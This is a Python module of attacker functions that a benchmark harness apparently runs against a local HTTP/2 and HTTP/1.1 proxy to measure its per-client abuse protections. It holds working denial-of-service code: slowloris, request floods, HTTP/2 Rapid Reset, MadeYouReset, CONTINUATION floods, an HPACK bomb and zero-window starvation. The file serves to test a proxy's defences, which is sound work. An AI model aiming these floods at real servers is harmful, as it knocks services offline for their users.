"""The attackers of bench/abuse.py, each a function run in a thread of its own.

An attacker connects from `ATTACKER_IP` (so per-client limits single it out, not the normal
client on 127.0.0.1), sets `ready` once it is at full strength, keeps at it until `stop`, and
counts what it got in `Signals.got`: how its connections ended (closed at accept, evicted,
GOAWAY with its code, reset), what its requests were answered. HTTP/2 frames are read by
their 9-byte headers alone, so nothing the client library would refuse can hide an answer.
"""

from __future__ import annotations

import contextlib
import functools
import socket
import ssl
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import BinaryIO, TypeVar

import h2.config
import h2.connection
import h2.errors
import h2.settings
from hyperframe.frame import ContinuationFrame, HeadersFrame

ATTACKER_IP = "127.0.0.2"
SEND_TIMEOUT = 2.0  # a send blocked this long: the proxy stopped reading this connection
HEADERS, RST_STREAM, GOAWAY = 0x1, 0x3, 0x7
T = TypeVar("T")


@dataclass(frozen=True)
class Target:
    port: int
    root_ca: Path

    def context(self, alpn: str = "http/1.1") -> ssl.SSLContext:
        context = ssl.create_default_context(cafile=str(self.root_ca))
        context.set_alpn_protocols([alpn])
        return context


@dataclass
class Signals:
    """Between an attacker's thread and the measurement: at full strength; the attack is
    over; what the attacker got so far."""

    ready: threading.Event = field(default_factory=threading.Event)
    stop: threading.Event = field(default_factory=threading.Event)
    got: Counter[str] = field(default_factory=Counter)
    _lock: threading.Lock = field(default_factory=threading.Lock)

    def part(self) -> Signals:
        """For one of several attackers acting as one: its own `ready`, the rest shared."""
        return Signals(stop=self.stop, got=self.got, _lock=self._lock)

    def count(self, what: str, n: int = 1) -> None:
        with self._lock:
            self.got[what] += n


Attack = Callable[[Target, int, Signals], None]


def connect(target: Target, timeout: float = 5.0) -> socket.socket:
    return socket.create_connection(
        ("127.0.0.1", target.port), timeout=timeout, source_address=(ATTACKER_IP, 0)
    )


def together(runs: list[Callable[[Signals], None]], signals: Signals) -> None:
    """Several attackers as one: ready once each is, over when the attack is."""
    parts = [signals.part() for _ in runs]
    threads = [
        threading.Thread(target=run, args=(part,)) for run, part in zip(runs, parts, strict=True)
    ]
    for thread in threads:
        thread.start()
    for part in parts:
        while not (part.ready.wait(0.5) or signals.stop.is_set()):
            pass
    signals.ready.set()
    for thread in threads:
        thread.join()


def in_threads(attacker: Callable[[Target, Signals], None]) -> Attack:
    """An attack of `count` threads, each running `attacker` (one connection at a time)."""

    def attack(target: Target, count: int, signals: Signals) -> None:
        together([functools.partial(attacker, target)] * count, signals)

    return attack


def one_after_another(signals: Signals, open_one: Callable[[], T]) -> Iterator[T]:
    """The connections of a one-at-a-time attacker: the next once the last has ended, until
    the attack stops; a failed connect or handshake is counted and tried again shortly."""
    while not signals.stop.is_set():
        try:
            connection = open_one()
        except OSError:
            signals.count("connect or handshake failed")
            time.sleep(0.1)
            continue
        yield connection


# Connections held open: what the proxy did with them is read when the attack ends.


def census(sock: socket.socket) -> str:
    """How a held connection stands, read without waiting: over TLS, what the records say
    (session tickets after the handshake are no answer)."""
    sock.setblocking(False)  # with a timeout set, Python would wait for readability first
    try:
        data = sock.recv(1) if isinstance(sock, ssl.SSLSocket) else sock.recv(1, socket.MSG_PEEK)
    except (BlockingIOError, ssl.SSLWantReadError):
        return "still open"
    except ssl.SSLEOFError:
        return "closed by the proxy"
    except ssl.SSLError:
        return "ended by a TLS alert"
    except OSError:
        return "reset by the proxy"
    return "answered" if data else "closed by the proxy"


def hold(socks: list[socket.socket], signals: Signals, tick: Callable[[], None]) -> None:
    signals.ready.set()
    try:
        while not signals.stop.wait(1.0):
            tick()
    finally:
        for sock in socks:
            signals.count(census(sock))
            sock.close()


def client_hello() -> bytes:
    outgoing = ssl.MemoryBIO()
    tls = ssl.create_default_context().wrap_bio(
        ssl.MemoryBIO(), outgoing, server_hostname="localhost"
    )
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


def slow_head(target: Target, count: int, signals: Signals) -> None:
    """TLS handshakes done, then a request head trickled a byte a second."""
    context = target.context()
    socks: list[socket.socket] = []
    for _ in range(count):
        if signals.stop.is_set():
            break
        try:
            tls = context.wrap_socket(connect(target), server_hostname="localhost")
            tls.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
        except OSError:
            signals.count("connect or handshake failed")
            continue
        tls.setblocking(False)
        socks.append(tls)

    def trickle() -> None:
        for sock in socks:
            with contextlib.suppress(OSError, ssl.SSLError):
                sock.send(b"x")

    hold(socks, signals, trickle)


def idle(target: Target, count: int, signals: Signals, first: bytes = b"") -> None:
    """TCP connections that send `first` (or nothing) and then nothing more."""
    socks = []
    for _ in range(count):
        try:
            sock = connect(target)
            sock.sendall(first)
        except OSError:
            signals.count("connect failed")
            continue
        socks.append(sock)
    hold(socks, signals, lambda: None)


def partial_hello(target: Target, count: int, signals: Signals) -> None:
    idle(target, count, signals, client_hello()[:60])


def slowloris(target: Target, count: int, signals: Signals) -> None:
    """Slow heads and stalled handshakes together, `count` of each."""
    together(
        [functools.partial(attack, target, count) for attack in (slow_head, partial_hello)],
        signals,
    )


# Requests as fast as one connection answers them.


def read_status(reader: BinaryIO) -> int:
    """One HTTP/1.1 response read whole (Content-Length bodies): its status."""
    status = int(reader.readline().split()[1])
    length = 0
    while (line := reader.readline()) not in (b"\r\n", b""):
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            length = int(value)
    reader.read(length)
    return status


def request_flood(target: Target, signals: Signals) -> None:
    """Keep-alive requests back to back, a new connection whenever one ends."""
    context = target.context()
    handshakes = one_after_another(
        signals, lambda: context.wrap_socket(connect(target), server_hostname="localhost")
    )
    for tls in handshakes:
        signals.ready.set()
        with tls, tls.makefile("rb") as reader:
            try:
                while not signals.stop.is_set():
                    tls.sendall(b"GET /ping HTTP/1.1\r\nHost: localhost\r\n\r\n")
                    signals.count(f"{read_status(reader)} answers")
            except (OSError, ValueError, IndexError):
                signals.count("connections ended by the proxy")


# HTTP/2: floods of frames, one connection at a time per thread.


class FrameReader:
    """The frames a client received, by their headers: responses, resets, the GOAWAY code."""

    def __init__(self) -> None:
        self.buffer = bytearray()
        self.heads = 0
        self.resets = 0
        self.goaway: int | None = None

    def feed(self, data: bytes) -> None:
        self.buffer += data
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, payload = self.buffer[3], self.buffer[9 : 9 + length]
            if kind == GOAWAY:
                self.goaway = int.from_bytes(payload[4:8], "big")
            elif kind == RST_STREAM:
                self.resets += 1
            elif kind == HEADERS:
                self.heads += 1
            del self.buffer[: 9 + length]

    def ending(self) -> str:
        if self.goaway is None:
            return "closed without GOAWAY"
        try:
            return f"GOAWAY {h2.errors.ErrorCodes(self.goaway).name}"
        except ValueError:
            return f"GOAWAY {self.goaway}"


def request_headers(path: str, *extra: tuple[bytes, bytes]) -> list[tuple[bytes, bytes]]:
    return [
        (b":method", b"GET"),
        (b":scheme", b"https"),
        (b":authority", b"localhost"),
        (b":path", path.encode()),
        *extra,
    ]


class H2Attacker:
    """A TLS connection speaking HTTP/2 whose frames are built by h2 (or by hand) and whose
    answers are only counted: h2 never sees them, so it never acknowledges or refuses."""

    def __init__(self, target: Target, settings: dict[int, int] | None = None) -> None:
        self.sock = target.context("h2").wrap_socket(connect(target), server_hostname="localhost")
        self.sock.settimeout(SEND_TIMEOUT)
        self.conn = h2.connection.H2Connection(
            h2.config.H2Configuration(
                client_side=True,
                header_encoding=None,
                validate_outbound_headers=False,  # malformed requests on purpose
                normalize_outbound_headers=False,
            )
        )
        self.conn.initiate_connection()
        if settings:
            self.conn.update_settings(settings)
        self.frames = FrameReader()
        self.bursts = 0
        self.flush()

    def flush(self, raw: bytes = b"") -> None:
        self.sock.sendall(self.conn.data_to_send() + raw)

    def next_stream(self) -> int:
        stream_id: int = self.conn.get_next_available_stream_id()
        return stream_id

    def receive(self, wait: float) -> bool:
        """Count what arrives within `wait` seconds (0: only what is there); False once the
        proxy has closed the connection."""
        self.sock.settimeout(wait or None)
        if not wait:
            self.sock.setblocking(False)
        try:
            while data := self.sock.recv(65536):
                self.frames.feed(data)
            return False
        except (ssl.SSLWantReadError, BlockingIOError, TimeoutError):
            return True
        finally:
            self.sock.settimeout(SEND_TIMEOUT)


Burst = Callable[[H2Attacker], int]  # sends one burst of the flood; returns its units


def flood(burst: Burst, unit: str) -> Attack:
    """Bursts on a connection until the proxy ends it, then the next connection; counts the
    units sent and how each connection ended."""

    def attacker(target: Target, signals: Signals) -> None:
        for peer in one_after_another(signals, lambda: H2Attacker(target)):
            signals.ready.set()
            with peer.sock:
                signals.count(_flood_one(peer, burst, unit, signals))

    return in_threads(attacker)


def _flood_one(peer: H2Attacker, burst: Burst, unit: str, signals: Signals) -> str:
    try:
        while not signals.stop.is_set() and peer.frames.goaway is None:
            signals.count(unit, burst(peer))
            peer.bursts += 1
            if not peer.receive(0):
                break
    except TimeoutError:
        signals.count("sends blocked (the proxy stopped reading)")
    except OSError:
        pass
    with contextlib.suppress(OSError):
        peer.receive(1.0)
    if peer.frames.goaway is None and signals.stop.is_set():
        return "connections still open at the end"
    return f"connections ended: {peer.frames.ending()}"


def rapid_reset(peer: H2Attacker) -> int:
    """CVE-2023-44487: a request and its RST_STREAM, 100 times a burst."""
    for _ in range(100):
        stream_id = peer.next_stream()
        peer.conn.send_headers(stream_id, request_headers("/ping"), end_stream=True)
        peer.conn.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
    peer.flush()
    return 100


def made_you_reset(peer: H2Attacker) -> int:
    """CVE-2025-8671: requests the proxy must reset itself (an upper-case field name)."""
    for _ in range(100):
        peer.conn.send_headers(
            peer.next_stream(), request_headers("/ping", (b"X-Bad", b"1")), end_stream=True
        )
    peer.flush()
    return 100


def control_frames(peer: H2Attacker) -> int:
    """PING and SETTINGS, 50 of each a burst, never reading the acknowledgements."""
    for n in range(50):
        peer.conn.ping(n.to_bytes(8, "big"))
        peer.conn.update_settings({h2.settings.SettingCodes.MAX_HEADER_LIST_SIZE: 1000 + n})
    peer.flush()
    return 100


def continuation(peer: H2Attacker) -> int:
    """A header block that never ends: HEADERS, then CONTINUATION frames of 16 KiB, 16 a
    burst (CVE-2024-27316 and its kin)."""
    raw = b""
    if not peer.bursts:
        raw = HeadersFrame(peer.next_stream(), data=bytes(100), flags=["END_STREAM"]).serialize()
    raw += ContinuationFrame(1, data=bytes(16384)).serialize() * 16
    peer.flush(raw)
    return 16


def hpack_bomb(peer: H2Attacker) -> int:
    """A 4 KB field added to the HPACK table once per stream, then referred to 2,000 times by
    one byte each: a 6 KB block that decodes to 8 MB. 10 streams a burst."""
    bomb = [(b"x-bomb", b"a" * 4000)] * 2000
    for _ in range(10):
        peer.conn.send_headers(peer.next_stream(), request_headers("/ping", *bomb), end_stream=True)
    peer.flush()
    return 10


def zero_window(target: Target, signals: Signals) -> None:
    """100 streams asking for 1 MB each, with a window of 0 that is never opened; a new
    connection when the proxy ends one."""
    closed_window: dict[int, int] = {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0}
    for peer in one_after_another(signals, lambda: H2Attacker(target, closed_window)):
        with peer.sock:
            for _ in range(100):
                peer.conn.send_headers(
                    peer.next_stream(), request_headers("/bytes/1000000"), end_stream=True
                )
            peer.flush()
            signals.count("streams opened", 100)
            signals.ready.set()
            open_ = True
            with contextlib.suppress(OSError):
                while open_ and not signals.stop.is_set():
                    open_ = peer.receive(0.5)
            signals.count("response heads", peer.frames.heads)
            signals.count("streams reset by the proxy", peer.frames.resets)
            signals.count(
                "connections still open at the end"
                if open_
                else f"connections ended: {peer.frames.ending()}"
            )
